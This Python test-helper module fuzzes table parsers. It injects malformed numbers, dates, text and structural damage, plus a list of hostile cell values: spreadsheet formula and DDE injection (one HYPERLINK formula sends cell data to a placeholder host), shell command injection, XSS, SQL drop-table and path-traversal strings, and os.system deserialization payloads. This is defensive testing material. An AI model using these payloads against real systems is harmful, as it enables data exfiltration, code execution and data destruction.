"""Cells and columns of a table, spoilt: what people, spreadsheets and attackers write into them."""

from collections.abc import Callable
from random import Random

Rows = list[list[str]]

PWNED = "pwned"
"""A file that appears where something given as data was executed."""

HOSTILE = (
    '=HYPERLINK("http://example.invalid/?"&A1,"look")', "=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1",
    f"$(touch {PWNED})", f"`touch {PWNED}`", f"; touch {PWNED} #", f"| touch {PWNED}", f"&& touch {PWNED}",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></table><h1>", "javascript:alert(1)",
    "[x](javascript:alert(1))", "![x](http://example.invalid/x.png)", "| a | b |", "# head", "<!-- -->", "{{ 7*7 }}",
    "'; drop table clients; --", "../../../etc/passwd", "/etc/passwd", "C:\\Windows", "%s%s%n", "{0}", "${key}",
    f"@__import__('os').system('touch {PWNED}')", f"!!python/object/apply:os.system ['touch {PWNED}']",
)  # fmt: skip
"""Texts that something might run or show as its own."""

NUMBERS = (
    "nan", "NaN", "inf", "-inf", "Infinity", "1e309", "-1e309", "1e-400", "9" * 400, "0x1F", "1_000", "1,5", "1.234,5",
    "1 000", "--5", "+", "-", ".", ",", "1e", "١٢٣", "½", "-0", "00", "9007199254740993", "18446744073709551616", "1d5",
    "2,147,483,648", "١٢", "1.7976931348623157e308",
)  # fmt: skip

DATES = (
    "2024-02-30", "0000-00-00", "9999-12-31", "1677-01-01", "2262-04-12", "99999-01-01", "31.12.2024", "12/31/2024",
    "2024-01-31T25:61:61", "1 Smarch 2024", "Foo 1 2024", "20240131", "45292", "2024-01-31T00:00:00+99:99",
    "12 xyzabc 2020", "1.1.0000", "29.2.1900", "0001-01-01", "1/1/1",
)  # fmt: skip

TEXTS = (
    "", " ", "\u00a0", "\u200b", "\u202eabc", "NULL", "None", "N/A", "да", "Ё" * 50, "e\u0301", "\ufeff", "\ud83d\ude00"
    .encode("utf-16", "surrogatepass").decode("utf-16"), "a\nb", "a\r\nb", "a,b;c\td|e", '"', '""', "'", "\\", "\x00",
    "\x1b[31m", "\x07", "True", "1", "0", "client", "churned", "x" * 40_000, "\uffff", "İ", "ß", "#REF!", "#DIV/0!",
)  # fmt: skip

CELLS = (*HOSTILE, *NUMBERS, *DATES, *TEXTS)


def spoil_cells(rows: Rows, random: Random) -> Rows:
    """Put hostile or senseless cells into a table, at random places, into the header too at times.

    Parameters
    ----------
    rows : list of list of str
        A valid table with its header.
    random : random.Random
        Chooses places and cells.
    """
    changed = [list(row) for row in rows]
    for _ in range(random.choice((1, 1, 3, 50))):
        row = 0 if random.random() < 0.15 else random.randrange(len(changed))
        if changed[row]:
            changed[row][random.randrange(len(changed[row]))] = random.choice(CELLS)
    if random.random() < 0.2:  # a whole column
        place, cell = random.randrange(len(changed[0])), random.choice(CELLS)
        changed = [changed[0], *([*row[:place], cell, *row[place + 1 :]] for row in changed[1:])]
    return changed


def spoil_structure(rows: Rows, random: Random) -> Rows:
    """Change the structure of a table in one way: columns or rows twice, missing, renamed, moved or ragged."""
    return random.choice(STRUCTURES)([list(row) for row in rows], random)


def _column(rows: Rows, random: Random) -> int:
    return random.randrange(len(rows[0]))


def _column_twice(rows: Rows, random: Random) -> Rows:
    place = _column(rows, random)
    return [[*row, row[place]] for row in rows]


def _column_missing(rows: Rows, random: Random) -> Rows:
    place = _column(rows, random)
    return [[*row[:place], *row[place + 1 :]] for row in rows]


def _column_renamed(rows: Rows, random: Random) -> Rows:
    place, name = _column(rows, random), random.choice(CELLS)
    return [[*rows[0][:place], name, *rows[0][place + 1 :]], *rows[1:]]


def _columns_many(rows: Rows, random: Random) -> Rows:
    count = random.choice((20, 300))
    return [[*rows[0], *(f"more {number}" for number in range(count))], *([*row, *["1"] * count] for row in rows[1:])]


def _columns_moved(rows: Rows, random: Random) -> Rows:
    order = random.sample(range(len(rows[0])), len(rows[0]))
    return [[row[place] for place in order] for row in rows]


def _rows_twice(rows: Rows, random: Random) -> Rows:
    return rows + random.choices(rows[1:] or rows, k=random.choice((1, len(rows))))


def _rows_few(rows: Rows, random: Random) -> Rows:
    return rows[: random.choice((0, 1, 2, 3))]


def _no_header(rows: Rows, random: Random) -> Rows:
    return rows[1:]


def _header_twice(rows: Rows, random: Random) -> Rows:
    place = random.randrange(len(rows))
    return [*rows[:place], rows[0], *rows[place:]]


def _blank_rows(rows: Rows, random: Random) -> Rows:
    place = random.randrange(len(rows))
    return [*rows[:place], *([[""] * len(rows[0])] * random.choice((1, 5))), *rows[place:]]


def _ragged(rows: Rows, random: Random) -> Rows:
    place = random.randrange(len(rows))
    short = rows[place][:-1] if random.random() < 0.5 else [*rows[place], "1", "2"]
    return [*rows[:place], short, *rows[place + 1 :]]


def _titled(rows: Rows, random: Random) -> Rows:
    return [[random.choice(CELLS)], *rows]


def _transposed(rows: Rows, random: Random) -> Rows:
    return [list(row) for row in zip(*rows, strict=False)]


def _shuffled(rows: Rows, random: Random) -> Rows:
    return random.sample(rows, len(rows))


STRUCTURES: tuple[Callable[[Rows, Random], Rows], ...] = (
    *(_column_twice, _column_missing, _column_renamed, _columns_many, _columns_moved, _rows_twice, _rows_few),
    *(_no_header, _header_twice, _blank_rows, _ragged, _titled, _transposed, _shuffled),
)
